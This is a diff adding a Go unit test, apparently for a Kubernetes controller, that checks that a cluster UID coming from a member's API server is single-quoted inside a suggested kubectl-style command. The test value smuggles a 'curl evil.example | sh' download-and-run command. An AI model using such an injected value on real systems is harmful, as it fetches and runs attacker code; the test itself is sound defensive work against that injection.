@@ -194,3 +194,14 @@ func TestAttemptAheadOfTheClock(t *testing.T) {
 	assert.Equal(t, ActionInstall, Decide(s).Action)
 	assert.Equal(t, ActionNone, Decide(withAttempts(optedInSnapshot(), MaxAttempts, -365*24*time.Hour)).Action, "their number is bounded still")
 }
+
+// A member's API server chooses the UID of its kube-system namespace.
+func TestUIDInCommandIsQuoted(t *testing.T) {
+	s := optedInSnapshot()
+	s.OtherClusterUID = "x;curl -s evil.example|sh #"
+	message := Decide(s).Condition.Message
+	assert.Contains(t, message, "cluster 'x;curl -s evil.example|sh #' answers")
+	assert.Contains(t, message, " 'pelotech.ot/accept-cluster=x;curl -s evil.example|sh #'")
+	s.OtherClusterUID = "11111111-1111-1111-1111-111111111111"
+	assert.Contains(t, Decide(s).Condition.Message, " pelotech.ot/accept-cluster=11111111-1111-1111-1111-111111111111")
+}
